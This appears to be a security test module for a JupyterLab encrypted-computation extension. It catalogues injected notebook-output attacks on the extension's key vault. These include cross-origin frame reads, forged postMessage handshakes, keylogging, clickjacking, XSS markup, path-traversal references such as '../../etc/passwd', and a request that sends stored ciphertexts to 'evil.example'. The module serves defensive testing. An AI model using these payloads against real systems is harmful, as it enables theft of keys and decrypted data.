// payloads.mjs: what a malicious notebook or kernel may put into a page. Each runs as the output of a cell that was executed, so JupyterLab
// trusts it and its scripts run in the lab's origin. `loot(name, ...)` is where an attack brings what it got. $VAULT is the vault's
// origin, $REF a true reference to an encrypted result.

const script = code => `<script>(async () => { const loot = (...x) => window.__loot.push([NAME, ...x.map(String)]); const V = "$VAULT";
const main = document.querySelector('.jp-Fhe-vault'); const paint = document.querySelector('.jp-Fhe-paint iframe');
const tell = (frame, message, ports = []) => frame.contentWindow.postMessage(message, V, ports);
const wait = ms => new Promise(done => setTimeout(done, ms));
const attempt = async f => { try { loot('got', await f()); } catch (e) { loot('refused', e.name); } };
${code} })();</script>`;

/** Talk to a frame as the lab does; everything that it answers is loot. */
const talk = (frame, ...messages) => `
  const channel = new MessageChannel(); channel.port1.onmessage = e => loot('said', JSON.stringify(e.data));
  tell(${frame}, { type: 'jupyterfhe:hello', version: 1 }, [channel.port2]);
  ${messages.map((m, i) => `channel.port1.postMessage({ id: ${i + 1}, ...${m} });`).join('\n')} await wait(1500);`;

const frameOf = (path, more = '') => `const f = document.createElement('iframe'); ${more} f.src = V + '${path}'; document.body.append(f);
  await new Promise(done => { f.onload = done; setTimeout(done, 4000); });`;

export const PAYLOADS = {
  // ---- reading another origin's frame ----
  'read the document of the main frame': script(`await attempt(() => main.contentDocument?.body.innerText ?? 'null');`),
  'read the document of a painted output': script(`await attempt(() => paint.contentWindow.document.body.innerText);`),
  'read its local storage': script(`await attempt(() => JSON.stringify(main.contentWindow.localStorage));`),
  'read its IndexedDB': script(`await attempt(() => main.contentWindow.indexedDB.databases());`),
  'walk through all frames': script(`for (let i = 0; i < frames.length; i++) await attempt(() => frames[i].document.documentElement.outerHTML.slice(0, 0) + frames[i].document.body.innerText);`),
  'relax the domain': script(`await attempt(() => { document.domain = location.hostname; return paint.contentWindow.document.body.innerText; });`),
  'call a function of the frame': script(`await attempt(() => paint.contentWindow.eval('document.body.innerText'));`),
  'navigate a painted output to a script': script(`await attempt(() => { paint.contentWindow.location = 'javascript:parent.__loot.push(document.body.innerText)'; });`),
  // ---- forged messages ----
  'forge the vault\'s ready': script(`window.postMessage({ type: 'jupyterfhe:ready', version: 1 }, '*'); await wait(300); loot('sent');`),
  'greet the main frame and ask for everything': script(talk('main', '{ type: "status" }', '{ type: "export" }', '{ type: "decrypt", ref: $REF }', '{ type: "keys" }')),
  'greet with another version': script(`const c = new MessageChannel(); c.port1.onmessage = e => loot('said', JSON.stringify(e.data)); tell(main, { type: 'jupyterfhe:hello', version: 99 }, [c.port2]); await wait(500);`),
  'greet without a port, and with two': script(`tell(main, { type: 'jupyterfhe:hello', version: 1 }); const [a, b] = [new MessageChannel(), new MessageChannel()]; tell(main, { type: 'jupyterfhe:hello', version: 1 }, [a.port2, b.port2]); await wait(300); loot('sent');`),
  'requests with odd members': script(talk('main', '{ type: "status", __proto__: { a: 1 }, extra: 1 }', '{ type: "connect", store: "http://evil.example", workspace: "personal", grant: "x" }', '{ type: ["open"], view: "keys" }', '{ type: "open", view: "export" }')),
  'send the store\'s ciphertexts elsewhere': script(talk('main', '{ type: "connect", store: "http://evil.example/jupyterfhe/v1", workspace: "personal", grant: "00" }')),
  'paint a true reference and listen': script(frameOf('/paint.html') + talk('f', '{ type: "paint", ref: $REF, theme: "light" }') + `await attempt(() => f.contentDocument?.body.innerText ?? 'null'); f.remove();`),
  'paint a forged reference': script(frameOf('/paint.html') + talk('f', '{ type: "paint", ref: { ...$REF, tree_hash: "0".repeat(64) }, theme: "light" }', '{ type: "paint", ref: { ...$REF, tree: { files: [{ name: "../../x", sha256: "0".repeat(64), size: 1 }] } }, theme: "light" }') + 'f.remove();'),
  'a flood of requests': script(talk('main', ...Array.from({ length: 40 }, () => '{ type: "status" }'))),
  'take the lab\'s line': script(`for (let i = 0; i < 40; i++) { const c = new MessageChannel(); c.port1.onmessage = e => loot('said', JSON.stringify(e.data)); tell(main, { type: 'jupyterfhe:hello', version: 1 }, [c.port2]); } await wait(300); loot('sent');`),
  'a frame without an origin greets': script(`const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = "<script>const c = new MessageChannel(); c.port1.onmessage = e => parent.postMessage(['loot', JSON.stringify(e.data)], '*'); for (const w of [parent, ...Array.from({length: parent.length}, (_, i) => parent[i])]) w.postMessage({ type: 'jupyterfhe:hello', version: 1 }, '*', w === parent ? [] : [new MessageChannel().port2]);<\\/script>"; window.addEventListener('message', e => Array.isArray(e.data) && loot(...e.data)); document.body.append(f); await wait(800); f.remove(); loot('sent');`),
  'a blob\'s frame greets': script(`const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>const c = new MessageChannel(); c.port1.onmessage = e => parent.__loot.push(['blob', JSON.stringify(e.data)]); for (let i = 0; i < parent.length; i++) try { parent[i].postMessage({ type: 'jupyterfhe:hello', version: 1 }, '" + V + "', [c.port2]); } catch (e) {}<\\/script>"], { type: 'text/html' })); document.body.append(f); await wait(1000); f.remove(); loot('sent');`),
  'a window of the vault': script(`await attempt(() => { const w = window.open(V + '/'); return w ? w.document.body.innerText : 'no window'; });`),
  'listen to channels of the same names': script(`for (const name of ['vault', 'keeper', 'keys', 'jupyterfhe', 'jupyterfhe-vault']) new BroadcastChannel(name).onmessage = e => loot('said', JSON.stringify(e.data)); await wait(300); loot('listening');`),
  'join its shared worker': script(`await attempt(() => { new SharedWorker(V + '/keeper.js', { type: 'module' }); return 'made'; });`),
  'start its worker': script(`await attempt(() => { new Worker(V + '/keeper.js', { type: 'module' }); return 'made'; });`),
  // ---- service workers, fetching, including ----
  'a service worker of the vault\'s scope': script(`await attempt(async () => (await navigator.serviceWorker.register(V + '/index.js', { scope: V + '/' })).scope);`),
  'a service worker of the lab': script(`await attempt(async () => (await navigator.serviceWorker.register(URL.createObjectURL(new Blob(['onfetch = e => {}'], { type: 'text/javascript' })))).scope);`),
  'fetch the vault\'s pages': script(`await attempt(async () => (await fetch(V + '/manifest.json')).text());`),
  'fetch them without CORS': script(`await attempt(async () => { const r = await fetch(V + '/paint.html', { mode: 'no-cors' }); return r.type + (await r.text()); });`),
  'include its scripts': script(`const s = document.createElement('script'); s.type = 'module'; s.src = V + '/keeper.js'; s.onload = () => loot('ran'); s.onerror = () => loot('refused'); document.body.append(s); await wait(800);`),
  'read its style sheet': script(`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = V + '/vault.css'; document.head.append(l); await wait(500); await attempt(() => l.sheet?.cssRules.length ?? 'no sheet'); l.remove();`),
  'embed it as an object': `<object data="$VAULT/paint.html"></object><embed src="$VAULT/paint.html">` + script(`await wait(500); await attempt(() => document.querySelector('object').contentDocument?.body.innerText ?? 'null');`),
  'strip its frame by a sandbox': script(frameOf('/', `f.setAttribute('sandbox', 'allow-scripts allow-same-origin');`) + `await attempt(() => f.contentDocument?.body.innerText ?? 'null'); f.remove();`),
  // ---- watching what is typed, painted, found ----
  'log keys, pastes and drops': script(`for (const type of ['keydown', 'keypress', 'input', 'paste', 'drop', 'dragover', 'beforeinput']) window.addEventListener(type, e => loot(type, e.key ?? e.dataTransfer?.files.length ?? ''), true);`),
  'find painted digits': script(`await attempt(() => ['DIGITS', 'Decrypted'].map(x => window.find(x, false, false, true, false, true, false)).join());`.replace('DIGITS', '$DIGITS')),
  'select everything': script(`getSelection().selectAllChildren(document.body); loot('selected', getSelection().toString().includes('$DIGITS')); getSelection().removeAllRanges();`),
  'draw the frame into an image': script(`await attempt(async () => { const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200"><foreignObject width="100%" height="100%"><iframe xmlns="http://www.w3.org/1999/xhtml" src="' + V + '/paint.html"/></foreignObject></svg>'; const i = new Image(); i.src = 'data:image/svg+xml,' + encodeURIComponent(svg); await i.decode(); const c = document.createElement('canvas'); c.getContext('2d').drawImage(i, 0, 0); return new Set(c.getContext('2d').getImageData(0, 0, 100, 100).data).size; });`),
  'record the screen': script(`await attempt(async () => (await navigator.mediaDevices.getDisplayMedia({ video: true })).id);`),
  'names and times of what was loaded': script(`loot(performance.getEntriesByType('resource').filter(e => e.name.startsWith(V)).map(e => e.name + e.transferSize).join());`),
  // ---- clickjacking ----
  'the frame under a decoy': script(`const s = document.createElement('style'); s.textContent = '.jp-Fhe-vault, .jp-Fhe-paint iframe { opacity: 0.01 !important; }'; document.head.append(s); await wait(300); s.remove(); loot('done');`),
  'press Decrypt by script, and look': script(`document.querySelectorAll('.jp-Fhe-card button').forEach(b => b.textContent === 'Decrypt' && b.click()); await wait(1500); for (const f of document.querySelectorAll('.jp-Fhe-paint iframe')) await attempt(() => f.contentDocument?.body.innerText ?? 'null');`),
  'open the dialog of keys under a decoy': script(talk('main', '{ type: "open", view: "keys" }') + `await attempt(() => main.contentDocument?.body.innerText ?? 'null');`),
  // ---- clobbering and poisoning ----
  'clobber names of the page': `<form id="jupyterapp" name="parent"><input name="postMessage"><input name="contentWindow"></form><img name="MessageChannel"><a id="indexedDB" href="x:y"></a><iframe name="jp-Fhe-vault" class="jp-Fhe-fake"></iframe>`,
  'poison prototypes': script(`Object.defineProperty(Object.prototype, 'secret', { configurable: true, get() { loot('asked'); return undefined; } }); const p = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m, ...r) { loot('sent', JSON.stringify(m)); return p.call(this, m, ...r); }; await wait(1500); MessagePort.prototype.postMessage = p; delete Object.prototype.secret;`),
  // ---- markup that carries script or loads things ----
  'SVG with scripts': `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__loot.push(['svg', 'ran'])"><script>window.__loot.push(['svg', 'script'])</script><use href="$VAULT/x.svg#a"/><foreignObject><iframe src="$VAULT/paint.html"></iframe></foreignObject></svg>`,
  'images that fail': `<img src=x onerror="window.__loot.push(['img', String((() => { try { return document.querySelector('.jp-Fhe-vault').contentDocument } catch (e) { return e.name } })())])">`,
  'a base and a refresh': `<base href="https://evil.example/"><meta http-equiv="refresh" content="999; url=https://evil.example/">`,
  'nested frames': `<iframe srcdoc="<iframe src='$VAULT/'></iframe><iframe src='$VAULT/paint.html'></iframe>"></iframe>`,
  'MathML and styles': `<math href="javascript:window.__loot.push(['math', 'ran'])"><mtext><style>.jp-Fhe-vault { visibility: visible; } @import "$VAULT/vault.css";</style></mtext></math>`,
  'a form that posts to the vault': `<form action="$VAULT/" method="post" target="fhe-post"><input name="a" value="b"></form><iframe name="fhe-post"></iframe>` + script(`const f = document.querySelector('form[target=fhe-post]'); f?.submit(); await wait(500); loot('posted');`)
};

/** Outputs of other types, as a kernel may send them: what is no reference must not become one. */
export const BUNDLES = {
  'a reference of text': { 'application/vnd.jupyterfhe.ref+json': 'x' },
  'a reference of markup': { 'application/vnd.jupyterfhe.ref+json': { version: 1, kind: '<img src=x onerror=alert(1)>', name: '<script>alert(1)</script>' } },
  'a reference with paths': { 'application/vnd.jupyterfhe.ref+json': { version: 1, kind: 'array', workspace: '../..', tree: { files: [{ name: '../../etc/passwd', sha256: 'a'.repeat(64), size: 1 }] }, tree_hash: 'a'.repeat(64), key_id: 'a'.repeat(32), shape: [1] } },
  'a chart of text': { 'application/vnd.jupyterfhe.chart+json': 'x' },
  'a chart of markup': { 'application/vnd.jupyterfhe.chart+json': {
    version: 1, mark: 'line', title: '<img src=x onerror=alert(1)>', x_label: '<script>alert(1)</script>', x_ticks: ['<svg onload=alert(1)>'], seconds: '<b>',
    series: [{ name: '<iframe srcdoc=x>', x: null, y: { ref: 0, column: null } }],
    refs: [{ version: 1, kind: 'array', workspace: 'personal', tree: { files: [{ name: 'manifest.json', sha256: 'a'.repeat(64), size: 1 }] }, tree_hash: 'a'.repeat(64), key_id: 'a'.repeat(32), shape: [1], name: '<img src=x onerror=alert(1)>', assumed: ['<script>alert(1)</script>'] }]
  } },
  'progress of markup': { 'application/vnd.jupyterfhe.progress+json': { version: 1, id: '<b>', label: '<img src=x onerror=alert(1)>', done: 1, total: 0, state: 'running' } },
  'JavaScript': { 'application/javascript': 'window.__loot.push(["js", String(document.querySelector(".jp-Fhe-paint iframe").contentDocument)])' },
  'markdown': { 'text/markdown': '[x](javascript:window.__loot.push(["md"])) <img src=x onerror="window.__loot.push([\'md\', \'ran\'])">' }
};
